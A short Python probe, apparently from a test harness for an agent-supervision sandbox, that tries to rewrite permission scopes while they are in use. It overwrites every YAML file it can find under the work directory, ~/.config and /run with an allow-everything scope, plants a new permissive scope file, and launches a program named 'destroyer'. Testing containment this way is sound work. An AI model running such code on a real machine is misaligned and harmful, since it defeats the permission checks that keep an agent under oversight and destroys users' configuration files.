"""Rewrite the scope while it is in use: every scope file that can be found, and one more that says yes."""

# aims: marks
# control: none (unsupervised it would rewrite scopes of whoever works on this machine)
# seconds: 15
import glob
import os
import subprocess

from attack import attempt, target, tried

scope = "scope: attacked\ntask: x\ncommands: {otherwise: allow}\nnetwork: {otherwise: ask}\n"
tried()
for pattern in (
    f"{target['work']}/../../../*.yaml",
    f"{target['work']}/**/*.yaml",
    f"{target['home']}/.config/**/*.yaml",
    "/run/**/*.yaml",
):
    for path in attempt(lambda pattern=pattern: glob.glob(pattern, recursive=True)) or ():
        attempt(lambda path=path: open(path, "w").write(scope))
path = f"{target['work']}/.agent-supervise/scopes/attacked.yaml"
attempt(lambda: os.makedirs(os.path.dirname(path), exist_ok=True))
attempt(lambda: open(path, "w").write(scope))
for program in ("destroyer", "swift"):
    attempt(lambda program=program: subprocess.run([target[program]], timeout=3))
